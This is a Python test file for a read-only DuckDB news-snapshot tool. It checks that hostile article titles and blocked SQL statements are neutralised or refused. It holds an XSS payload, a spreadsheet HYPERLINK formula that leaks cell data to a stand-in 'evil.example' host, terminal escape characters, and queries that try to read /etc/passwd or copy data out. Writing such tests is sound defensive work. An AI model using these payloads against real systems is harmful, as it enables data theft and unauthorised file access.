"""What leaves the database: read-only access, results in every format, exports, and nothing that a reader's tool runs."""

import csv
import io
import json
import os
import pty
import select
import shutil
import signal
import subprocess
import sys
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import duckdb
import pytest
from hypothesis import given
from hypothesis import strategies as st

from flows.export import export
from flows.files import whole
from flows.output import FORMULA, cell, json_of, write_csv
from flows.spool import Data
from tests.rows import article, empty, load
from warehouse.snapshot import DatabaseError, Reader, query, statements
from warehouse.store import Store, publish

ROOT = Path(__file__).parent.parent
HOSTILE = ("<img src=x onerror=alert(1)>", '=HYPERLINK("http://evil.example/?"&A1,"open")', "\x1b[2Jgone\u202e")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A data folder with articles whose titles want to be more than text."""
    folder = tmp_path_factory.mktemp("hostile")
    data = Data(folder)
    texts = [f"Text number {n}, {title}. " * 20 for n, title in enumerate(HOSTILE)]
    rows = [
        article(f"https://news.example/{n}", text, title=title)
        for n, (title, text) in enumerate(zip(HOSTILE, texts, strict=True))
    ]
    with Store(empty(data.master)) as store:
        load(store, folder, rows)
    publish(data.master, data.snapshot)
    return folder


@pytest.mark.parametrize(
    "statement",
    [
        "FROM read_csv('/etc/passwd')",
        "FROM read_text('/etc/passwd')",
        "FROM glob('/*')",
        "FROM '/etc/passwd'",
        "ATTACH '{master}' AS other",
        "COPY (SELECT 1) TO '{folder}/stolen.csv'",
        "EXPORT DATABASE '{folder}/stolen'",
        "INSTALL fts",
        "LOAD httpfs",
        "FROM read_csv('http://127.0.0.1:1/')",
        "SET enable_external_access = true",
        "SET allowed_paths = ['/etc/passwd']",
        "SET lock_configuration = false",
        "SET memory_limit = '100GB'",
        "RESET enable_external_access",
        "CREATE TABLE mine (a INTEGER)",
        "DELETE FROM articles",
        "UPDATE articles SET title = ''",
        "DROP VIEW relevant_articles",
        "FROM parameters",  # a variable of the program
    ],
)
def test_a_query_reaches_nothing_but_the_snapshot(demo: Path, tmp_path: Path, statement: str) -> None:
    data = Data(demo)
    with Reader(data.snapshot) as reader, pytest.raises(DatabaseError):
        list(reader.read(statement.format(master=data.master, folder=tmp_path)).rows)
    assert not list(tmp_path.iterdir())


def test_only_the_file_that_was_named_can_be_written(demo: Path, tmp_path: Path) -> None:
    with Reader(Data(demo).snapshot, [tmp_path / "it's mine.parquet"]) as reader:
        assert reader.write_parquet(tmp_path / "it's mine.parquet", "from sources") == 9
        with pytest.raises(DatabaseError, match="disabled by configuration"):
            reader.write_parquet(tmp_path / "another.parquet", "from sources")


def test_columns_of_one_name_all_arrive(demo: Path) -> None:
    found = query(Data(demo).snapshot, "select 1 as a, 2 as a_1, 3 as a, 4 as a")
    assert found.columns == ["a", "a_1", "a_2", "a_3"]
    assert found.rows == [(1, 2, 3, 4)]


@pytest.mark.parametrize("nothing", ["", "-- only a comment", ";"])
def test_a_statement_that_says_nothing_gives_nothing(demo: Path, ask, nothing: str) -> None:
    said = ask("sql", nothing, data=demo)
    assert said.returncode == 0
    assert said.stdout.strip() == ""


@given(st.text())
def test_text_in_csv_is_no_formula_and_comes_back(text: str) -> None:
    written = cell(text)
    assert not written.startswith(FORMULA)
    assert written.removeprefix("'") == text
    file = io.StringIO(newline="")
    write_csv(["a", "b"], [(text, text)], file)
    file.seek(0)
    assert list(csv.reader(file))[1:] == [[written, written]]


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (None, ""),
        (-5, "-5"),
        (-0.5, "-0.5"),
        (True, "true"),
        (["=1", "b"], '["=1", "b"]'),
        ({"a": 1}, '{"a": 1}'),
        (datetime(2026, 11, 20, 6, tzinfo=UTC), "2026-11-20T06:00:00+00:00"),
    ],
)
def test_values_in_csv_that_are_no_text(value: Any, shown: str) -> None:
    assert cell(value) == shown


def test_json_has_no_number_that_json_does_not_have(demo: Path) -> None:
    found = query(
        Data(demo).snapshot,
        "select 'nan'::double as n, -'inf'::double as i, map {1: [date '2026-01-02']} as m, 1.50::decimal(5, 2) as d, '\\xAA'::blob as b",
    )
    (record,) = [dict(zip(found.columns, row, strict=True)) for row in found.rows]
    assert json.loads(json_of(record)) == {"n": None, "i": None, "m": {"1": ["2026-01-02"]}, "d": "1.50", "b": "aa"}


def test_titles_are_text_in_the_terminal_and_in_csv(hostile: Path, ask) -> None:
    table = ask("sql", "select title from articles order by url", data=hostile).stdout
    assert "<img src=x onerror=alert(1)>" in table
    assert "=HYPERLINK(" in table
    assert not {"\x1b", "\u202e"} & set(table)
    sheet = ask("sql", "--format", "csv", "select title from articles order by url", data=hostile).stdout
    titles = [row[0] for row in csv.reader(io.StringIO(sheet, newline=""))][1:]
    assert titles == [HOSTILE[0], "'" + HOSTILE[1], HOSTILE[2]]


def all_said(terminal: int) -> bytes:
    """What a terminal's other side writes until it closes; closes the terminal."""
    said = b""
    while select.select([terminal], [], [], 60)[0]:
        try:
            said += os.read(terminal, 4096)
        except OSError:  # the other side is closed
            break
    os.close(terminal)
    return said


def test_what_the_locale_cannot_write_is_utf8_in_a_pipe_and_a_question_mark_on_a_terminal(demo: Path, cli) -> None:
    sql = "select '芯片' as chips"
    assert "芯片" in cli("sql", sql, data=demo, PYTHONIOENCODING="latin-1").stdout
    parent, child = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "flows.cli", "sql", sql, "--data", str(demo)],
        env={**os.environ, "PYTHONIOENCODING": "latin-1"}, stdout=child, stderr=child, cwd=ROOT,
    )  # fmt: skip
    os.close(child)
    assert b"??" in all_said(parent)
    assert process.wait(60) == 0


def test_csv_on_a_terminal_does_not_steer_it(hostile: Path) -> None:
    command = [sys.executable, "-m", "flows.cli", "sql", "--format", "csv", "select title from articles"]
    parent, child = pty.openpty()
    process = subprocess.Popen([*command, "--data", str(hostile)], stdout=child, stderr=child, cwd=ROOT)
    os.close(child)
    said = all_said(parent)
    assert process.wait(60) == 0
    assert b"=HYPERLINK" in said
    assert said.startswith(b"title\r\n"), "and no blank at the end of its lines"
    assert b"\x1b" not in said
    assert "\u202e".encode() not in said


def test_a_result_too_wide_for_the_terminal_is_shown_row_by_row(demo: Path, ask) -> None:
    shown = ask("sql", "from articles limit 2", data=demo).stdout.splitlines()
    assert max(map(len, shown)) <= 80
    assert [line for line in shown if line.startswith("row ")] == ["row 1", "row 2"]
    assert any(line.startswith("tagger_version ") for line in shown)


def test_a_table_says_that_there_is_more_than_it_shows(demo: Path, ask) -> None:
    shown = ask("sql", "from range(1001)", data=demo)
    assert len(shown.stdout.splitlines()) == 1001
    assert "more rows" in shown.stderr
    assert len(ask("sql", "--format", "jsonl", "from range(1001)", data=demo).stdout.splitlines()) == 1001


@pytest.mark.parametrize("form", ["csv", "json", "jsonl", "parquet"])
def test_results_are_written_to_files_that_others_read_back(demo: Path, tmp_path: Path, ask, form: str) -> None:
    file = tmp_path / f"from {form}.{form}"
    statement = tmp_path / "question.sql"
    statement.write_text(
        "set variable language = 'en'; select title, published_at from articles where language = getvariable('language') order by all",
        "utf-8",
    )
    done = ask("sql", statement, "--output", file, "--param", "language=zh", data=demo)
    assert done.returncode == 0, done.stderr
    assert sorted(path.name for path in tmp_path.iterdir()) == [file.name, "question.sql"]
    wanted = query(
        Data(demo).snapshot, "select title, published_at from articles where language = 'zh' order by all"
    ).rows
    readers = {"csv": duckdb.read_csv, "parquet": duckdb.read_parquet}
    got = readers.get(form, duckdb.read_json)(str(file)).fetchall()
    assert len(wanted) > 5
    assert [title for title, _ in got] == [title for title, _ in wanted]


def test_a_file_is_left_alone_by_a_query_that_fails(demo: Path, tmp_path: Path, ask) -> None:
    file = tmp_path / "kept.csv"
    file.write_text("as it was", encoding="utf-8")
    failed = ask("sql", "select error('no') from range(5000)", "--output", file, data=demo)
    assert failed.returncode == 1
    assert file.read_text(encoding="utf-8") == "as it was"
    assert list(tmp_path.iterdir()) == [file]
    other = ask("sql", "select 1", "--output", tmp_path / "a.xlsx", data=demo)
    assert "a.xlsx: a file is parquet, csv, json, jsonl" in other.stderr


def test_whole_replaces_a_leftover_and_leaves_none(tmp_path: Path) -> None:
    (tmp_path / ".a.txt.new").write_text("half a fi", encoding="utf-8")
    with whole(tmp_path / "a.txt") as temporary:
        assert not temporary.exists()
        temporary.write_text("whole", encoding="utf-8")
        assert not (tmp_path / "a.txt").exists()
    assert [path.name for path in tmp_path.iterdir()] == ["a.txt"]


@pytest.mark.parametrize("form", ["parquet", "csv", "jsonl"])
def test_an_export_has_every_row_and_says_what_is_in_it(demo: Path, tmp_path: Path, form: Any) -> None:
    tables = {
        name for (name,) in query(Data(demo).snapshot, "select table_name from duckdb_tables() where not internal").rows
    }
    written = export(Data(demo).snapshot, tmp_path, form)
    assert {file.relation for file in written} == tables
    assert {path.name for path in tmp_path.iterdir()} == {f"{name}.{form}" for name in tables} | {"dictionary.md"}
    rows = {file.relation: file.rows for file in written}
    assert (rows["articles"], rows["sources"]) == (42, 9)
    dictionary = (tmp_path / "dictionary.md").read_text(encoding="utf-8")
    assert f"`articles.{form}`, 42 rows." in dictionary
    assert "| `relevance` | DOUBLE | 0 to 1: how much it is about US–China AI policy" in dictionary
    stored = query(Data(demo).snapshot, "select text from articles order by text").rows
    if form == "parquet":
        assert (
            duckdb.read_parquet(str(tmp_path / "articles.parquet")).project("text").order("text").fetchall() == stored
        )
    elif form == "jsonl":
        lines = (tmp_path / "articles.jsonl").read_text(encoding="utf-8").splitlines()
        assert sorted(json.loads(line)["text"] for line in lines) == [text for (text,) in stored]
    else:
        with (tmp_path / "articles.csv").open(encoding="utf-8-sig", newline="") as file:
            assert sorted(row["text"].removeprefix("'") for row in csv.DictReader(file)) == [text for (text,) in stored]


def test_an_export_of_views_and_of_what_is_not_there(demo: Path, tmp_path: Path, ask) -> None:
    done = ask("export", tmp_path / "new" / "folder", "--table", "syndication", "--json", data=demo)
    assert json.loads(done.stdout)[0]["rows"] == 5
    failed = ask("export", tmp_path, "--table", "../articles", data=demo)
    assert failed.returncode == 1
    assert "no table or view ../articles; there are articles, articles_on_topic, copies" in failed.stderr
    assert not (tmp_path / "dictionary.md").exists()


def test_shell_runs_a_script_and_stops_at_the_first_error(demo: Path) -> None:
    def shell(script: str, *options: str) -> subprocess.CompletedProcess[str]:
        command = [sys.executable, "-m", "flows.cli", "shell", *options, "--data", str(demo)]
        return subprocess.run(command, input=script, capture_output=True, text=True, cwd=ROOT, timeout=60, check=False)

    done = shell("set variable n = 20; select getvariable('n') + 22 as 'answer;'; -- the end\n", "--json")
    assert done.returncode == 0, done.stderr
    assert [json.loads(line) for line in done.stdout.splitlines()] == [{"answer;": 42}]
    failed = shell("delete from articles; select 1;")
    assert failed.returncode == 1
    assert failed.stdout == ""
    assert "read-only" in failed.stderr


def test_shell_goes_on_after_an_error_that_a_person_makes(demo: Path) -> None:
    parent, child = pty.openpty()
    command = [sys.executable, "-m", "flows.cli", "shell", "--data", str(demo)]
    process = subprocess.Popen(
        command, stdin=child, stdout=child, stderr=child, cwd=ROOT, env={**os.environ, "TERM": "dumb"}
    )
    os.close(child)
    os.write(
        parent,
        b"select nonsense;\nselect count(*)\n+ 0 as found from articles;\n.columns stories\n.mode json\nselect 1 as x;\n.quit\n",
    )
    said = all_said(parent)
    assert process.wait(60) == 0
    assert b"DuckDB: Binder Error" in said
    assert b"found" in said
    assert b"42" in said
    assert b"independent_count" in said
    assert b'{"x": 1}' in said


@pytest.fixture
def ctrl_c() -> Iterator[None]:
    """Commands started now hear SIGINT, also where the tests are a background job of a shell, which ignores it."""
    before = signal.signal(signal.SIGINT, signal.default_int_handler)
    yield
    signal.signal(signal.SIGINT, before)


def test_ctrl_c_ends_a_query_and_not_the_shell(demo: Path, ctrl_c: None) -> None:
    parent, child = pty.openpty()
    command = [sys.executable, "-m", "flows.cli", "shell", "--data", str(demo)]
    process = subprocess.Popen(
        command, stdin=child, stdout=child, stderr=child, cwd=ROOT, env={**os.environ, "TERM": "dumb"}
    )
    os.close(child)
    said = b""

    def hears(wanted: bytes, between: Callable[[], None] = lambda: None) -> bool:
        nonlocal said
        for _ in range(240):
            if wanted in said:
                return True
            if select.select([parent], [], [], 0.5)[0]:
                said += os.read(parent, 4096)
            else:
                between()
        return False

    try:
        assert hears(b"bilateral> ")
        os.write(
            parent, b"select count(*) from range(10000000) as a, range(10000000) as b where a.range + b.range = 7;\n"
        )
        assert hears(b"interrupted", lambda: process.send_signal(signal.SIGINT))
        os.write(parent, b"select 40 + 2 as answer;\n.quit\n")
        assert hears(b"42")
        assert process.wait(60) == 0
    finally:
        process.kill()
        process.wait()
        os.close(parent)


def test_statements_end_at_semicolons_outside_of_texts() -> None:
    assert len(statements("select ';'; select 2 -- ; \n;")) == 2
    with pytest.raises(DatabaseError):
        statements("select 'open")


def test_snapshot_opens_in_the_command_line_of_an_older_duckdb(demo: Path) -> None:
    program = shutil.which("duckdb", path=Path(sys.executable).parent)
    assert program, "duckdb-cli is one of the tests' dependencies"

    def told(sql: str) -> Any:
        command = [program, "-readonly", "-json", str(Data(demo).snapshot), sql]
        done = subprocess.run(command, capture_output=True, text=True, timeout=60, check=False)
        assert done.returncode == 0, done.stderr
        return json.loads(done.stdout)

    (version,) = told("SELECT version() AS version")
    assert version["version"].startswith("v1.")
    views = [
        name for (name,) in query(Data(demo).snapshot, "select view_name from duckdb_views() where not internal").rows
    ]
    assert len(views) > 15
    for name in views:
        ours = query(Data(demo).snapshot, "select count(*) from query_table(?)", [name]).rows
        assert told(f"SELECT count(*) AS n FROM {name}") == [{"n": ours[0][0]}], name
    assert "Entity List" in told("FROM search('entity list') LIMIT 1")[0]["title"]


@pytest.mark.filterwarnings("ignore:The inplace keyword:DeprecationWarning")  # DuckDB calls what pandas 4 will not have
@pytest.mark.parametrize("method", ["df", "pl"])
def test_snapshot_opens_in_data_frames(demo: Path, method: str) -> None:
    with duckdb.connect(Data(demo).snapshot, read_only=True) as connection:
        frame = getattr(connection.sql("FROM relevant_articles"), method)()
        assert frame.shape[0] == connection.sql("FROM relevant_articles").aggregate("count(*)").fetchall()[0][0]


def test_a_parameter_is_a_text_where_the_script_has_one_and_one_that_nothing_asks_for_is_refused(
    demo: Path, tmp_path: Path, ask
) -> None:
    file = tmp_path / "question.sql"
    file.write_text("set variable words = 'chips'; select typeof(getvariable('words')), getvariable('n') + 1", "utf-8")
    said = ask("sql", "--format", "csv", file, "--param", "words=5090", "--param", "n=2", data=demo)
    assert said.stdout.splitlines()[1] == "VARCHAR,3"
    refused = ask("sql", file, "--param", "word=chips", data=demo)
    assert refused.returncode == 1
    assert "asks for no parameter word; there is n, words" in refused.stderr


def test_a_statement_that_is_not_utf8_is_refused_in_one_line(demo: Path, tmp_path: Path, cli) -> None:
    file = tmp_path / "question.sql"
    file.write_bytes(b"select '\xff'")
    command = [sys.executable, "-m", "flows.cli", "shell", "--data", str(demo)]
    with file.open("rb") as script:
        shell = subprocess.run(command, stdin=script, capture_output=True, text=True, cwd=ROOT, check=False)
    for refused in (shell, cli("sql", file, data=demo)):
        assert refused.returncode == 1
        assert refused.stderr.strip() == "bilateral: DuckDB: the statement is not UTF-8: save it so"
